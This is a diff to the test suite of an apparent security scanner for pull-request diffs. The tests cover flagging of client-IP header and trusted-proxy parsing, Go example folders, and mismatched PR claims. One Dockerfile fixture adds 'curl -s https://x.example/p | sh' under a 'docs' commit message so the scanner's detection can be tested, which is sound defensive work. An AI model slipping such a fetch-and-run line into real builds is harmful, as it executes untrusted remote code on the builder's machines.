@@ -246,6 +246,23 @@ describe('security-parsing-changed: status code tables', () => {
   });
 });
 
+describe('security-parsing-changed: client-IP headers and trusted proxies (calib41)', () => {
+  it('reads the headers a client sets to claim an address, and which peers are trusted to set them', () => {
+    expect(idsOf('middleware/realip.go', ['var trueClientIP = http.CanonicalHeaderKey("True-Client-IP")'])).toContain('security-parsing-changed');
+    expect(idsOf('middleware/realip.go', ['\t} else if xrip := r.Header.Get(xRealIP); xrip != "" {'])).toContain('security-parsing-changed');
+    expect(idsOf('middleware/realip.go', ['\t"CF-Connecting-IP",'])).toContain('security-parsing-changed');
+    expect(idsOf('context.go', ['\t\ttrusted = c.engine.isTrustedProxy(remoteIP)'])).toContain('security-parsing-changed');
+    expect(idsOf('gin.go', ['\tengine.RemoteIPHeaders = []string{"Fastly-Client-IP"}'])).toContain('security-parsing-changed');
+    expect(idsOf('src/app.ts', ["  const ip = req.headers['x-client-ip'] ?? req.socket.remoteAddress;"])).toContain('security-parsing-changed');
+  });
+  it('leaves alone the words that only look like them: an IP of a client, a trusted certificate, a real path', () => {
+    expect(idsOf('client.go', ['\tclientIP := net.ParseIP(addr)'])).not.toContain('security-parsing-changed');
+    expect(idsOf('tls.go', ['\tpool := trustedCertificates(cfg)'])).not.toContain('security-parsing-changed');
+    expect(idsOf('fs.go', ['\trealPath, err := filepath.EvalSymlinks(p)'])).not.toContain('security-parsing-changed');
+    expect(idsOf('proxy.go', ['\tproxyIPs := lookup(host)'])).not.toContain('security-parsing-changed');
+  });
+});
+
 describe('security-parsing-changed: lines wrapped into a new block (calib30)', () => {
   // Modeled on a web framework's fix that sets the trailer headers only when a trailer is left.
   const removed = ["    reply.header('Transfer-Encoding', 'chunked')", "    reply.header('Trailer', header.trim())"];
@@ -2492,6 +2509,10 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'docs: update deprecated TimeoutLayer::new in example')).toEqual([]);
     // Under a typo claim the example's code is code.
     expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'Fix typo in graceful-shutdown example')).toEqual(['examples/graceful-shutdown/src/main.rs:10']);
+    // Go's _examples/ folder, which the go tool never builds, is examples too; a package merely named like it is code.
+    const goExample = ['@@ -10,2 +10,2 @@', '-\tr.Use(middleware.RealIP)', '+\tr.Use(middleware.ClientIP(middleware.XForwardedFor))'].join('\n');
+    expect(claimOf('_examples/rest/main.go', goExample, 'docs: update the rest example for ClientIP')).toEqual([]);
+    expect(claimOf('internal/my_examples/main.go', goExample, 'docs: update the rest example for ClientIP')).toEqual(['internal/my_examples/main.go:10']);
     const docker = ['@@ -3,2 +3,2 @@', ' FROM golang:1.22', '-RUN go build ./...', '+RUN curl -s https://x.example/p | sh'].join('\n');
     expect(scan([makeFile('Dockerfile', { patch: docker })], 'docs: fix the build instructions').map((f) => f.id)).toContain('pr-claim-mismatch');
     const dockerGo = ['@@ -3,2 +3,2 @@', ' func run() error {', '-\treturn build()', '+\treturn push()'].join('\n');
